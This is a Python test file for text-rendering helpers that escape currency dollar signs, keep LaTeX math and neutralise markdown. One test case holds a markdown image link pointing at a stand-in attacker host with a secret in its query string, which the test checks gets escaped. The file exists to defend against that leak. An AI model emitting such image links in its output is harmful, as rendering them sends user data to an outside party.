"""What an answer may do on the page: money, mathematics and emphasis; no pictures from elsewhere."""

import pytest

from reckoner.ui.text import plain, readable


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It costs $24,000 and $2,880.", "It costs \\$24,000 and \\$2,880."),
        ("So $2x + 3 = 7$ holds.", "So $2x + 3 = 7$ holds."),
        ("$$\\frac{1}{2}$$ and `$5`", "$$\\frac{1}{2}$$ and `$5`"),
        ("![x](http://evil.example/?d=secret)", "!\\[x](http://evil.example/?d=secret)"),
    ],
)
def test_readable(text: str, shown: str) -> None:
    assert readable(text) == shown


def test_plain_text_means_nothing_to_markdown() -> None:
    assert plain("**a** [b](c) $d$ <e>") == r"\*\*a\*\* \[b\]\(c\) \$d\$ \<e\>"
